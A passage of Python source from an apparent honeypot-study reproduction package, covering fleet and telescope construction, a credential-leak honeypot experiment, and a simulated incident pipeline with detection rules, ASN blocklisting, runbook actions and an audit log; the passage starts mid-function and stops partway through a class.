            chosen.append(slash16 * 256 + 255)  # x.y.255.0/24
    if len(chosen) < num_slash24s:
        remaining = num_slash24s - len(chosen)
        taken = set(chosen)
        fillers = (
            index
            for index in np.linspace(0, total_slash24s - 1, total_slash24s, dtype=int)
            if index not in taken
        )
        spread = np.linspace(0, total_slash24s - 1, remaining * 4, dtype=int)
        for index in spread:
            if int(index) not in taken:
                chosen.append(int(index))
                taken.add(int(index))
                if len(chosen) == num_slash24s:
                    break
        for index in fillers:
            if len(chosen) == num_slash24s:
                break
            chosen.append(int(index))
            taken.add(int(index))
    chosen = sorted(chosen[:num_slash24s])

    blocks = [
        np.arange(base.first + index * 256, base.first + index * 256 + 256, dtype=np.uint32)
        for index in chosen
    ]
    ips = np.concatenate(blocks)
    return VantagePoint(
        vantage_id="orion",
        network="orion",
        kind=NetworkKind.TELESCOPE,
        region_code="US-EAST",
        continent=region("US-EAST").continent.value,
        ips=ips,
        stack=TelescopeStack(),
    )


#: Leak experiment protocols and ports (Section 4.3 methodology).
_LEAK_SERVICES: tuple[tuple[str, int], ...] = (("ssh", 22), ("telnet", 23), ("http", 80))
_LEAK_INTERACTIVE_PORTS = frozenset({22, 23})


def build_leak_experiment(hub: RngHub) -> tuple[list[VantagePoint], LeakExperiment]:
    """Deploy the control / previously-leaked / leaked honeypot groups.

    All 33 honeypots live in the Stanford network (the paper deploys them
    there because cloud IPs have uncontrollable service histories) and
    emulate SSH/22, Telnet/23, and HTTP/80 interactively.
    """
    # Stanford blocks start past the Honeytrap /26's allocation.
    allocator = _AddressAllocator(hub.subhub("leak"), {"stanford": 4})
    block_a = allocator.slash24_for("stanford", "US-WEST")
    block_b = allocator.slash24_for("stanford", "US-WEST")
    hosts = np.concatenate(
        [allocator.pick_hosts(block_a, 17, "leak-a"), allocator.pick_hosts(block_b, 16, "leak-b")]
    )
    control = tuple(int(ip) for ip in hosts[:8])
    previously = tuple(int(ip) for ip in hosts[8:15])
    leaked_pool = [int(ip) for ip in hosts[15:33]]

    groups: list[LeakGroup] = []
    cursor = 0
    for engine in ("censys", "shodan"):
        for protocol, port in _LEAK_SERVICES:
            groups.append(
                LeakGroup(
                    engine=engine,
                    protocol=protocol,
                    port=port,
                    ips=tuple(leaked_pool[cursor : cursor + 3]),
                )
            )
            cursor += 3

    experiment = LeakExperiment(
        control_ips=control,
        previously_leaked_ips=previously,
        leak_groups=tuple(groups),
    )
    vantages = [
        VantagePoint(
            vantage_id=f"leak-{index}",
            network="stanford",
            kind=NetworkKind.EDU,
            region_code="US-WEST",
            continent=region("US-WEST").continent.value,
            ips=np.asarray([ip], dtype=np.uint32),
            stack=HoneytrapStack(interactive_ports=_LEAK_INTERACTIVE_PORTS),
        )
        for index, ip in enumerate(experiment.all_ips)
    ]
    return vantages, experiment


def build_full_deployment(
    hub: RngHub,
    num_telescope_slash24s: int = 16,
    include_leak_experiment: bool = True,
) -> Deployment:
    """Assemble the complete Table 1 deployment."""
    deployment = Deployment()
    deployment.honeypots.extend(build_greynoise_fleet(hub))
    deployment.honeypots.extend(build_honeytrap_fleet(hub))
    if include_leak_experiment:
        leak_vantages, experiment = build_leak_experiment(hub)
        deployment.honeypots.extend(leak_vantages)
        deployment.leak_experiment = experiment
    deployment.telescope = build_telescope(num_telescope_slash24s)
    return deployment
