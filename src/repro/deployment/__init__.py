"""Vantage-point fleet construction (paper Table 1 geometry)."""

from repro.deployment.fleet import (
    Deployment,
    GREYNOISE_REGIONS,
    LeakExperiment,
    LeakGroup,
    build_full_deployment,
    build_greynoise_fleet,
    build_honeytrap_fleet,
    build_leak_experiment,
    build_telescope,
)

__all__ = [
    "Deployment", "GREYNOISE_REGIONS", "LeakExperiment", "LeakGroup",
    "build_full_deployment", "build_greynoise_fleet", "build_honeytrap_fleet",
    "build_leak_experiment", "build_telescope",
]
