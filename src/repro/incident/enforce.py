"""The enforcement side of the closed loop.

:class:`ActiveBlocklist` is the object the simulation engine consults
mid-run: given the columns of an already-built intent batch, it answers
"which of these rows survive the currently active blocks?".  Entries
activate at an event-time hour (``active_from``), so traffic the fleet
saw *before* an entry was emitted is never retroactively erased — that
gap is exactly the detection latency the X5 experiment measures.

Enforcement is applied **after** every RNG draw for a batch (the engine
filters the finished batch), so the enforced run consumes the identical
random stream as the baseline and its capture set is, by construction,
the baseline's minus the blocked rows.  That identity is what lets the
closed-loop experiment predict blocked volumes analytically shard-wise
and then cross-check the prediction against a real enforced re-run.

The class is deliberately dependency-light (numpy only) and duck-typed
from the engine's side: anything with ``keep_mask(timestamps, src_asns,
src_ips)`` can enforce.
"""

from __future__ import annotations

from typing import Iterable, Optional

import numpy as np

__all__ = ["ActiveBlocklist"]


class ActiveBlocklist:
    """Timed ASN + source-IP blocks, vectorized for batch filtering."""

    def __init__(
        self,
        asn_entries: Iterable[tuple[int, float]] = (),
        ip_entries: Iterable[tuple[int, float]] = (),
    ) -> None:
        self._asns, self._asn_from = self._pack(asn_entries)
        self._ips, self._ip_from = self._pack(ip_entries)

    @staticmethod
    def _pack(entries: Iterable[tuple[int, float]]):
        """Dedupe (earliest activation wins) and sort for searchsorted."""
        earliest: dict[int, float] = {}
        for value, active_from in entries:
            value = int(value)
            active_from = float(active_from)
            if value not in earliest or active_from < earliest[value]:
                earliest[value] = active_from
        values = np.asarray(sorted(earliest), dtype=np.int64)
        starts = np.asarray([earliest[int(v)] for v in values], dtype=np.float64)
        return values, starts

    @classmethod
    def from_entries(cls, entries) -> "ActiveBlocklist":
        """Build from runbook :class:`BlocklistEntry` objects."""
        return cls(asn_entries=[(entry.asn, entry.active_from) for entry in entries])

    def __len__(self) -> int:
        return len(self._asns) + len(self._ips)

    @property
    def asns(self) -> np.ndarray:
        return self._asns

    @property
    def ips(self) -> np.ndarray:
        return self._ips

    def _blocked(
        self,
        values: np.ndarray,
        keys: np.ndarray,
        starts: np.ndarray,
        timestamps: np.ndarray,
    ) -> np.ndarray:
        if len(keys) == 0:
            return np.zeros(len(values), dtype=bool)
        positions = np.searchsorted(keys, values)
        clipped = np.minimum(positions, len(keys) - 1)
        hit = keys[clipped] == values
        active = timestamps >= starts[clipped]
        return hit & active

    def blocked_mask(
        self,
        timestamps: np.ndarray,
        src_asns: np.ndarray,
        src_ips: Optional[np.ndarray] = None,
    ) -> np.ndarray:
        """True where a row is blocked by an entry active at its time."""
        timestamps = np.asarray(timestamps, dtype=np.float64)
        blocked = self._blocked(
            np.asarray(src_asns, dtype=np.int64), self._asns, self._asn_from, timestamps
        )
        if src_ips is not None and len(self._ips):
            blocked |= self._blocked(
                np.asarray(src_ips, dtype=np.int64), self._ips, self._ip_from, timestamps
            )
        return blocked

    def keep_mask(
        self,
        timestamps: np.ndarray,
        src_asns: np.ndarray,
        src_ips: Optional[np.ndarray] = None,
    ) -> np.ndarray:
        """The complement the engine uses to filter a batch."""
        return ~self.blocked_mask(timestamps, src_asns, src_ips)
