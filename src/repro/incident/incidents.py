"""Incident objects, the correlating store, and the NDJSON audit log.

An :class:`Incident` is the unit operators reason about: one underlying
condition (one campaign, one leaking credential set, one spiking
vantage), however many times its rule re-fires.  The store enforces:

* **dedup/correlation** — signals sharing a correlation key update the
  existing incident instead of opening a new one;
* **a deterministic lifecycle** — ``open`` when first signaled,
  ``acknowledged`` once a runbook has responded, ``resolved`` after the
  signal has been quiet for ``quiet_hours`` sealed hours (and at end of
  stream).  Transitions happen at sealed event-time hours only;
* **append-only persistence** — every transition and every runbook
  action lands in the :class:`AuditLog` in occurrence order, serialized
  as canonical NDJSON (sorted keys), so two runs of the same seed
  produce byte-identical logs regardless of sharding.
"""

from __future__ import annotations

import hashlib
import json
from dataclasses import dataclass, field
from typing import Optional

from repro.incident.rules import Signal

__all__ = ["Incident", "IncidentStore", "AuditLog"]

#: Lifecycle states, in order.
STATUSES = ("open", "acknowledged", "resolved")


@dataclass
class Incident:
    """One correlated condition with a deterministic lifecycle."""

    incident_id: str
    key: str
    rule: str
    runbook: Optional[str]
    severity: str
    summary: str
    offenders: tuple
    status: str
    opened_hour: int
    last_hour: int
    signals: int = 1
    resolved_hour: Optional[int] = None

    @property
    def active(self) -> bool:
        return self.status != "resolved"

    def as_dict(self) -> dict:
        return {
            "id": self.incident_id,
            "key": self.key,
            "rule": self.rule,
            "runbook": self.runbook,
            "severity": self.severity,
            "summary": self.summary,
            "offenders": [[kind, value] for kind, value in self.offenders],
            "status": self.status,
            "opened_hour": self.opened_hour,
            "last_hour": self.last_hour,
            "signals": self.signals,
            "resolved_hour": self.resolved_hour,
        }


class AuditLog:
    """Append-only record of everything the pipeline decided and did."""

    def __init__(self) -> None:
        self._records: list[dict] = []

    def __len__(self) -> int:
        return len(self._records)

    @property
    def records(self) -> list[dict]:
        return list(self._records)

    def append(self, record: dict) -> None:
        self._records.append(record)

    def actions(self, kind: Optional[str] = None) -> list[dict]:
        """The runbook-action records, optionally one action kind only."""
        return [
            record for record in self._records
            if record.get("record") == "action"
            and (kind is None or record.get("action") == kind)
        ]

    def to_ndjson(self) -> str:
        """Canonical NDJSON: one sorted-key JSON object per line."""
        return "".join(
            json.dumps(record, sort_keys=True, separators=(",", ":")) + "\n"
            for record in self._records
        )

    def digest(self) -> str:
        """Content address of the whole log (sharding-invariance check)."""
        return hashlib.sha256(self.to_ndjson().encode("utf-8")).hexdigest()

    def write(self, path) -> int:
        """Persist as NDJSON; returns the number of records written."""
        with open(path, "w", encoding="utf-8") as handle:
            handle.write(self.to_ndjson())
        return len(self._records)


class IncidentStore:
    """Correlate signals into incidents and walk their lifecycle."""

    def __init__(self, audit: Optional[AuditLog] = None, quiet_hours: int = 12) -> None:
        self.audit = audit if audit is not None else AuditLog()
        self.quiet_hours = int(quiet_hours)
        self.history: list[Incident] = []  # every incident, in id order
        self._active: dict[str, Incident] = {}  # correlation key -> incident
        self._next_id = 1

    # -- ingest ---------------------------------------------------------

    def ingest(self, signals: list[Signal], hour: int) -> list[Incident]:
        """Fold one hour's signals in; returns the newly opened incidents."""
        opened: list[Incident] = []
        for signal in signals:
            incident = self._active.get(signal.key)
            if incident is not None:
                incident.last_hour = hour
                incident.signals += 1
                incident.summary = signal.summary
                self.audit.append({
                    "record": "incident",
                    "event": "signal",
                    "hour": hour,
                    "id": incident.incident_id,
                    "rule": signal.rule,
                    "signals": incident.signals,
                    "details": dict(signal.details),
                })
                continue
            incident = Incident(
                incident_id=f"INC-{self._next_id:04d}",
                key=signal.key,
                rule=signal.rule,
                runbook=None,
                severity=signal.severity,
                summary=signal.summary,
                offenders=tuple(signal.offenders),
                status="open",
                opened_hour=hour,
                last_hour=hour,
            )
            self._next_id += 1
            self._active[signal.key] = incident
            self.history.append(incident)
            opened.append(incident)
            self.audit.append({
                "record": "incident",
                "event": "open",
                "hour": hour,
                "id": incident.incident_id,
                "key": incident.key,
                "rule": incident.rule,
                "severity": incident.severity,
                "summary": incident.summary,
                "offenders": [[kind, value] for kind, value in incident.offenders],
                "details": dict(signal.details),
            })
        return opened

    # -- lifecycle ------------------------------------------------------

    def acknowledge(self, incident: Incident, hour: int, runbook: str) -> None:
        """A runbook responded: open → acknowledged."""
        if incident.status != "open":
            return
        incident.status = "acknowledged"
        incident.runbook = runbook
        self.audit.append({
            "record": "incident",
            "event": "acknowledge",
            "hour": hour,
            "id": incident.incident_id,
            "runbook": runbook,
        })

    def resolve(self, incident: Incident, hour: int, reason: str) -> None:
        if incident.status == "resolved":
            return
        incident.status = "resolved"
        incident.resolved_hour = hour
        self._active.pop(incident.key, None)
        self.audit.append({
            "record": "incident",
            "event": "resolve",
            "hour": hour,
            "id": incident.incident_id,
            "reason": reason,
        })

    def resolve_quiet(self, hour: int) -> int:
        """Resolve incidents quiet for ``quiet_hours``; returns how many."""
        resolved = 0
        for incident in list(self._active.values()):
            if hour - incident.last_hour >= self.quiet_hours:
                self.resolve(incident, hour, reason="quiet")
                resolved += 1
        return resolved

    def resolve_all(self, hour: int) -> int:
        """End of stream: everything still active resolves."""
        resolved = 0
        for incident in list(self._active.values()):
            self.resolve(incident, hour, reason="end-of-stream")
            resolved += 1
        return resolved

    # -- views ----------------------------------------------------------

    def counts(self) -> dict:
        tally = {status: 0 for status in STATUSES}
        for incident in self.history:
            tally[incident.status] += 1
        return tally

    def by_status(self, status: Optional[str] = None) -> list[Incident]:
        if status is None:
            return list(self.history)
        return [incident for incident in self.history if incident.status == status]
