"""Typed runbook actions with cause-incident provenance.

The executor is the fleet's hands: when the store opens an incident
whose rule names a runbook, the matching handler runs immediately (same
sealed hour) and every action it takes is appended to the audit log with
the incident id that caused it.  Three typed actions:

* ``block`` — emit an ASN blocklist entry, active from the *next* hour
  (the detection latency the closed-loop experiment measures);
* ``rotate`` — rotate a honeypot service fingerprint (recorded as a new
  fingerprint generation for the affected service);
* ``reweight`` — scale down a deployment region's weight (recorded per
  region, multiplicative).

Actions are idempotent per target: an ASN already blocked, a service
already rotated this hour, or a region already at the floor produces no
duplicate entry — re-firings correlate into the incident instead.
"""

from __future__ import annotations

from dataclasses import dataclass
from typing import Callable, Optional

from repro.incident.incidents import AuditLog, Incident, IncidentStore

__all__ = ["BlocklistEntry", "RunbookExecutor"]


@dataclass(frozen=True)
class BlocklistEntry:
    """One auto-emitted block: an ASN and when the block takes effect."""

    asn: int
    #: Event-time hour the block activates (detection hour + 1: the
    #: entry cannot act on traffic already seen when it was emitted).
    active_from: float
    #: Cause-incident provenance.
    incident_id: str

    def as_dict(self) -> dict:
        return {
            "asn": self.asn,
            "active_from": self.active_from,
            "incident": self.incident_id,
        }


class RunbookExecutor:
    """Run the runbook an incident's rule names, with full provenance."""

    def __init__(
        self,
        audit: AuditLog,
        store: IncidentStore,
        region_of: Optional[Callable[[str], Optional[str]]] = None,
        reweight_factor: float = 0.5,
        min_region_weight: float = 0.25,
    ) -> None:
        self.audit = audit
        self.store = store
        self.region_of = region_of or (lambda vantage_id: None)
        self.reweight_factor = float(reweight_factor)
        self.min_region_weight = float(min_region_weight)
        self.blocklist: list[BlocklistEntry] = []
        self._blocked_asns: set[int] = set()
        self.rotations: list[dict] = []
        self._fingerprint_generation: dict[str, int] = {}
        self.region_weights: dict[str, float] = {}
        self._handlers: dict[str, Callable[[Incident, int], list[dict]]] = {
            "block": self._run_block,
            "rotate": self._run_rotate,
            "reweight": self._run_reweight,
        }

    def execute(self, incident: Incident, runbook: Optional[str], hour: int) -> int:
        """Run ``runbook`` for a newly opened incident; returns #actions."""
        handler = self._handlers.get(runbook or "")
        if handler is None:
            return 0
        actions = handler(incident, hour)
        for action in actions:
            self.audit.append({
                "record": "action",
                "hour": hour,
                "incident": incident.incident_id,
                "runbook": runbook,
                **action,
            })
        self.store.acknowledge(incident, hour, runbook)
        return len(actions)

    def action_count(self) -> int:
        return len(self.audit.actions())

    def last_action(self) -> Optional[dict]:
        actions = self.audit.actions()
        return actions[-1] if actions else None

    # -- the runbooks ---------------------------------------------------

    def _run_block(self, incident: Incident, hour: int) -> list[dict]:
        actions = []
        for kind, value in incident.offenders:
            if kind != "asn":
                continue
            asn = int(value)
            if asn in self._blocked_asns:
                continue
            self._blocked_asns.add(asn)
            entry = BlocklistEntry(
                asn=asn, active_from=float(hour + 1),
                incident_id=incident.incident_id,
            )
            self.blocklist.append(entry)
            actions.append({
                "action": "block",
                "asn": asn,
                "active_from": entry.active_from,
            })
        return actions

    def _run_rotate(self, incident: Incident, hour: int) -> list[dict]:
        actions = []
        for kind, value in incident.offenders:
            if kind != "service":
                continue
            service = str(value)
            generation = self._fingerprint_generation.get(service, 0) + 1
            self._fingerprint_generation[service] = generation
            rotation = {
                "action": "rotate",
                "service": service,
                "fingerprint_generation": generation,
            }
            self.rotations.append({**rotation, "hour": hour})
            actions.append(rotation)
        return actions

    def _run_reweight(self, incident: Incident, hour: int) -> list[dict]:
        actions = []
        for kind, value in incident.offenders:
            if kind != "vantage":
                continue
            region = self.region_of(str(value)) or "unknown"
            weight = self.region_weights.get(region, 1.0)
            if weight <= self.min_region_weight:
                continue
            weight = max(weight * self.reweight_factor, self.min_region_weight)
            self.region_weights[region] = weight
            actions.append({
                "action": "reweight",
                "region": region,
                "vantage": str(value),
                "weight": round(weight, 6),
            })
        return actions
