"""Declarative incident rules over the stream analyzer's online state.

Each rule is a small object with three obligations:

* ``observe(chunk)`` — an optional per-chunk hook for rules that need
  state the :class:`~repro.stream.analyzer.StreamAnalyzer` does not
  already keep (only the campaign rule uses it today);
* ``evaluate(analyzer, hour)`` — called once per sealed hour (subject
  to the rule's ``cadence``), returning zero or more :class:`Signal`s;
* a ``correlation key`` on every signal, so the incident store can fold
  repeated firings of the same underlying condition into one incident.

Rules read *only* event-time state (sketches, tumbling windows, leak
histograms) — never wall clocks — so a fixed seed produces an identical
signal sequence no matter how the run was executed or sharded.
"""

from __future__ import annotations

import hashlib
from dataclasses import dataclass, field
from typing import TYPE_CHECKING, Optional

import numpy as np

from repro.scanners.payloads import strip_ephemeral_headers

if TYPE_CHECKING:  # pragma: no cover - import cycle guard, typing only
    from repro.stream.analyzer import StreamAnalyzer
    from repro.stream.bus import StreamChunk

__all__ = [
    "Signal",
    "IncidentRule",
    "VolumeSpikeRule",
    "NewHeavyHitterRule",
    "CampaignOnsetRule",
    "CredentialLeakRule",
    "default_rules",
]


@dataclass(frozen=True)
class Signal:
    """One rule firing: the unit the incident store correlates on."""

    #: Name of the rule that fired (``rule.name``).
    rule: str
    #: Correlation key — identical keys fold into one incident.
    key: str
    #: Sealed hour (event time) the evaluation ran at.
    hour: int
    severity: str
    summary: str
    #: ``(kind, value)`` pairs naming who/what triggered the signal —
    #: the runbook executor consumes these (``asn`` entries become
    #: blocklist entries, ``vantage`` entries name reweight targets...).
    offenders: tuple = ()
    #: JSON-safe supporting evidence, persisted into the audit log.
    details: dict = field(default_factory=dict)


class IncidentRule:
    """Base class: a named, severity-tagged, runbook-bound detector."""

    #: Stable rule identifier (also the default incident title prefix).
    name = "rule"
    #: Severity stamped on emitted signals: ``warning`` or ``critical``.
    severity = "warning"
    #: Which runbook the executor runs when this rule opens an incident
    #: (``block`` / ``rotate`` / ``reweight`` / ``None`` for observe-only).
    runbook: Optional[str] = None
    #: Evaluate every ``cadence`` sealed hours (always at the final one).
    cadence = 1

    def observe(self, chunk: "StreamChunk") -> None:
        """Per-chunk hook; default rules need no extra state."""

    def evaluate(self, analyzer: "StreamAnalyzer", hour: int) -> list[Signal]:
        raise NotImplementedError


class VolumeSpikeRule(IncidentRule):
    """Per-vantage hourly volume spiking over its own trailing baseline.

    The streaming twin of the batch spike detector
    (:func:`repro.stats.volume.count_spikes`), but evaluated hour by
    hour as each seals: the freshly sealed hour is compared against the
    mean + ``threshold_sigmas``·std of the vantage's prior history.
    """

    name = "volume-spike"
    severity = "warning"
    runbook = "reweight"

    def __init__(
        self,
        threshold_sigmas: float = 3.0,
        min_history: int = 6,
        min_events: float = 32.0,
    ) -> None:
        self.threshold_sigmas = float(threshold_sigmas)
        self.min_history = int(min_history)
        self.min_events = float(min_events)

    def evaluate(self, analyzer: "StreamAnalyzer", hour: int) -> list[Signal]:
        if hour < self.min_history:
            return []
        signals: list[Signal] = []
        for vantage_id in analyzer.windows.keys():
            series = analyzer.windows.series(vantage_id)
            if hour >= len(series):
                continue
            value = float(series[hour])
            if value < self.min_events:
                continue
            history = series[:hour]
            mean = float(history.mean())
            std = float(history.std())
            threshold = mean + self.threshold_sigmas * max(std, 1.0)
            if value <= threshold:
                continue
            offenders = [("vantage", str(vantage_id))]
            top_as = analyzer.top("as", vantage_id, 1)
            if top_as:
                offenders.append(("asn", int(top_as[0])))
            signals.append(Signal(
                rule=self.name,
                key=f"spike:{vantage_id}",
                hour=hour,
                severity=self.severity,
                summary=(
                    f"{vantage_id}: {value:.0f} events in hour {hour} "
                    f"vs baseline {mean:.1f}±{std:.1f}"
                ),
                offenders=tuple(offenders),
                details={
                    "value": value,
                    "baseline_mean": round(mean, 4),
                    "baseline_std": round(std, 4),
                    "threshold_sigmas": self.threshold_sigmas,
                },
            ))
        return signals


class NewHeavyHitterRule(IncidentRule):
    """A source AS newly entering a vantage's Space-Saving top-k.

    After a warmup period (the sketch needs history before "new" means
    anything), an AS appearing in the per-vantage top-``k`` that has
    never been in that vantage's top-``k`` before raises a signal —
    provided it actually carries weight: the vantage must have seen
    ``min_vantage_events`` events and the AS must hold ``min_share`` of
    them, otherwise early top-k churn on sparse vantages would open an
    incident per shuffle.  The ever-seen set is bounded: it only grows
    by ``k`` per vantage per membership change.
    """

    name = "new-heavy-hitter"
    severity = "critical"
    runbook = "block"

    def __init__(
        self,
        k: int = 3,
        warmup_hours: int = 6,
        min_vantage_events: int = 256,
        min_share: float = 0.15,
    ) -> None:
        self.k = int(k)
        self.warmup_hours = int(warmup_hours)
        self.min_vantage_events = int(min_vantage_events)
        self.min_share = float(min_share)
        self._seen: dict[str, set] = {}

    def evaluate(self, analyzer: "StreamAnalyzer", hour: int) -> list[Signal]:
        contingency = analyzer.contingency.get("as")
        if contingency is None:
            return []
        signals: list[Signal] = []
        for vantage_id in contingency.groups():
            total = float(analyzer.events_per_vantage.get(vantage_id, 0))
            if total < self.min_vantage_events:
                continue  # too sparse for "heavy" to mean anything yet
            sketch = contingency.sketch(vantage_id)
            top = [int(asn) for asn in sketch.top(self.k)]
            known = self._seen.get(vantage_id)
            if known is None:
                known = self._seen[vantage_id] = set()
            fresh = [
                asn for asn in top
                if asn not in known and sketch.estimate(asn) >= self.min_share * total
            ]
            known.update(top)
            if hour < self.warmup_hours:
                continue  # warmup still records membership, silently
            for asn in fresh:
                share = sketch.estimate(asn) / total
                signals.append(Signal(
                    rule=self.name,
                    key=f"heavy:{vantage_id}:{asn}",
                    hour=hour,
                    severity=self.severity,
                    summary=(
                        f"AS{asn} entered {vantage_id}'s top-{self.k} "
                        f"sources at hour {hour} ({share:.0%} of traffic)"
                    ),
                    offenders=(("asn", asn), ("vantage", str(vantage_id))),
                    details={"k": self.k, "share": round(share, 4)},
                ))
        return signals


class CampaignOnsetRule(IncidentRule):
    """Coordinated campaign onset: one payload fingerprint, many vantages.

    ``observe`` accumulates per-fingerprint footprints (vantage set,
    source-AS set, event count, first-seen hour) over the stripped
    payload — the same normalization §3.3's batch ``payload_counter``
    applies — and the rule fires once per fingerprint when its footprint
    first spans ``min_vantages`` vantages with ``min_events`` events.
    "Onset" is literal: fingerprints already circulating during the
    first ``warmup_hours`` (the fleet's background scanning noise) are
    grandfathered and never signal.
    """

    name = "campaign-onset"
    severity = "critical"
    runbook = "block"

    def __init__(
        self,
        min_vantages: int = 3,
        min_events: int = 24,
        warmup_hours: int = 6,
    ) -> None:
        self.min_vantages = int(min_vantages)
        self.min_events = int(min_events)
        self.warmup_hours = int(warmup_hours)
        # fingerprint digest -> [preview, vantage set, asn set, events, first hour]
        self._campaigns: dict[str, list] = {}
        self._digests: dict[bytes, str] = {}
        self._signaled: set[str] = set()

    def observe(self, chunk: "StreamChunk") -> None:
        payloads = chunk.raw("payload")
        if isinstance(payloads, np.ndarray):
            rows = payloads[chunk.start:chunk.stop]
            hits = [position for position, payload in enumerate(rows) if payload]
            if not hits:
                return
            asns = np.asarray(chunk.resolved("src_asn"), dtype=np.int64)
            stamps = np.asarray(chunk.resolved("timestamps"), dtype=np.float64)
            for position in hits:
                self._note(
                    chunk.vantage_id, rows[position],
                    int(asns[position]), float(stamps[position]), 1,
                )
        elif payloads:
            asns = np.asarray(chunk.resolved("src_asn"), dtype=np.int64)
            stamps = np.asarray(chunk.resolved("timestamps"), dtype=np.float64)
            self._note(
                chunk.vantage_id, payloads,
                int(asns[0]), float(stamps.min()), len(chunk),
            )
            footprint = self._campaigns[self._digests[bytes(payloads)]]
            footprint[2].update(int(asn) for asn in np.unique(asns))

    def _note(self, vantage_id, payload, asn: int, stamp: float, count: int) -> None:
        digest = self._digests.get(bytes(payload))
        if digest is None:
            stripped = strip_ephemeral_headers(payload)
            digest = hashlib.sha256(bytes(stripped)).hexdigest()[:12]
            self._digests[bytes(payload)] = digest
        footprint = self._campaigns.get(digest)
        if footprint is None:
            preview = bytes(payload).split(b"\r\n", 1)[0][:48]
            footprint = self._campaigns[digest] = [preview, set(), set(), 0, stamp]
        footprint[1].add(str(vantage_id))
        footprint[2].add(asn)
        footprint[3] += count
        footprint[4] = min(footprint[4], stamp)

    def evaluate(self, analyzer: "StreamAnalyzer", hour: int) -> list[Signal]:
        signals: list[Signal] = []
        for digest in sorted(self._campaigns):
            if digest in self._signaled:
                continue
            preview, vantage_ids, asns, events, first_seen = self._campaigns[digest]
            if first_seen < self.warmup_hours:
                self._signaled.add(digest)  # background noise: grandfather
                continue
            if len(vantage_ids) < self.min_vantages or events < self.min_events:
                continue
            self._signaled.add(digest)
            signals.append(Signal(
                rule=self.name,
                key=f"campaign:{digest}",
                hour=hour,
                severity=self.severity,
                summary=(
                    f"campaign {digest} ({preview.decode('utf-8', errors='replace')!r}) "
                    f"on {len(vantage_ids)} vantages, {events} events"
                ),
                offenders=tuple(("asn", asn) for asn in sorted(asns)),
                details={
                    "fingerprint": digest,
                    "vantages": sorted(vantage_ids),
                    "events": events,
                    "first_seen_hour": round(first_seen, 4),
                },
            ))
        return signals


class CredentialLeakRule(IncidentRule):
    """The Table 3 leak alarm, generalized into one rule among peers.

    Wraps :meth:`repro.stream.windows.StreamingLeakAlarm.evaluate`: a
    leaked group whose trailing per-IP series is stochastically greater
    than the control group's raises one incident per (service, group).
    The Mann–Whitney/KS pass is the priciest evaluation in the catalog,
    so it runs at a daily cadence rather than hourly.
    """

    name = "credential-leak"
    severity = "critical"
    runbook = "rotate"
    cadence = 24

    def __init__(self, trailing_hours: Optional[int] = None, alpha: float = 0.05) -> None:
        self.trailing_hours = trailing_hours
        self.alpha = float(alpha)

    def evaluate(self, analyzer: "StreamAnalyzer", hour: int) -> list[Signal]:
        leak = analyzer.leak
        if leak is None:
            return []
        signals: list[Signal] = []
        for alarm in leak.evaluate(self.trailing_hours, self.alpha):
            if not alarm.stochastically_greater:
                continue
            signals.append(Signal(
                rule=self.name,
                key=f"leak:{alarm.service}:{alarm.group}",
                hour=hour,
                severity=self.severity,
                summary=(
                    f"{alarm.group} credentials leaked on {alarm.service}: "
                    f"{alarm.fold:.1f}x control (MWU p={alarm.mwu_p:.3f})"
                ),
                offenders=(("service", alarm.service), ("group", alarm.group)),
                details={
                    "fold": round(alarm.fold, 4),
                    "mwu_p": round(alarm.mwu_p, 6),
                    "ks_p": round(alarm.ks_p, 6),
                    "trailing_hours": alarm.trailing_hours,
                },
            ))
        return signals


def default_rules(trailing_hours: Optional[int] = None) -> tuple[IncidentRule, ...]:
    """The stock rule catalog, in evaluation order."""
    return (
        VolumeSpikeRule(),
        NewHeavyHitterRule(),
        CampaignOnsetRule(),
        CredentialLeakRule(trailing_hours=trailing_hours),
    )
