"""Wiring: the bus-attached pipeline and the canonical dataset replay.

Two ways to run detection:

* **live** — :class:`IncidentPipeline` subscribes to the same
  :class:`~repro.stream.bus.StreamBus` as the analyzer (always *after*
  it, so each chunk is sketched before rules see the hour advance) and
  evaluates rules as tumbling hours seal;
* **post-hoc** — :func:`detect_incidents` replays a merged
  :class:`~repro.analysis.dataset.AnalysisDataset` through a fresh
  analyzer + pipeline in **canonical order**: hour-major, vantage-minor
  (sorted ids), original row order within each (vantage, hour) cell.

The canonical order is the determinism keystone: the orchestrator's
merged datasets are bit-identical across shard counts, and the replay
order is a pure function of the merged tables — so the audit log of a
1-shard, 2-shard and 4-shard run of the same seed is byte-identical.

The replay is cheap: per vantage one stable argsort by hour bin and one
fancy-index per column, then every (vantage, hour) cell publishes as a
zero-copy ``[lo, hi)`` slice of the pre-sorted columns.
"""

from __future__ import annotations

from typing import TYPE_CHECKING, Iterator, Optional

import numpy as np

from repro.incident.incidents import AuditLog, IncidentStore
from repro.incident.rules import IncidentRule, default_rules
from repro.incident.runbooks import RunbookExecutor
from repro.stream.bus import StreamChunk

if TYPE_CHECKING:  # pragma: no cover - typing only
    from repro.analysis.dataset import AnalysisDataset
    from repro.stream.analyzer import StreamAnalyzer

__all__ = ["IncidentPipeline", "canonical_chunks", "detect_incidents"]

#: Chunk column name -> EventTable accessor attribute.
_COLUMN_ACCESSORS = (
    ("timestamps", "timestamps"),
    ("src_ip", "src_ip"),
    ("src_asn", "src_asn"),
    ("dst_ip", "dst_ip"),
    ("dst_port", "dst_port"),
    ("transport_code", "transport_code"),
    ("handshake", "handshake"),
    ("payload", "payloads"),
    ("credentials", "credentials"),
    ("commands", "commands"),
)


class IncidentPipeline:
    """Rules + store + executor behind one ``consume(chunk)`` face."""

    def __init__(
        self,
        analyzer: "StreamAnalyzer",
        rules: Optional[tuple[IncidentRule, ...]] = None,
        quiet_hours: int = 12,
        audit: Optional[AuditLog] = None,
    ) -> None:
        self.analyzer = analyzer
        self.rules = tuple(rules) if rules is not None else default_rules()
        self.audit = audit if audit is not None else AuditLog()
        self.store = IncidentStore(self.audit, quiet_hours=quiet_hours)
        #: vantage id -> region, learned from chunks (reweight targets).
        self.regions: dict[str, str] = {}
        self.executor = RunbookExecutor(self.audit, self.store, region_of=self.regions.get)
        self._evaluated_hours = 0
        self._finalized = False

    # -- ingest ---------------------------------------------------------

    def consume(self, chunk: StreamChunk) -> None:
        """Bus-subscriber hook; must run after the analyzer's consume."""
        self.regions.setdefault(chunk.vantage_id, chunk.region)
        for rule in self.rules:
            rule.observe(chunk)
        self._advance(self.analyzer.windows.sealed_hours())

    def finalize(self) -> None:
        """End of stream: evaluate through the final (never-sealing) hour.

        The tumbling windows' last hour is right-closed, so the
        watermark alone can never seal it — the pipeline needs an
        explicit end-of-stream to evaluate the tail and resolve leftover
        incidents.  Idempotent.
        """
        if self._finalized:
            return
        self._finalized = True
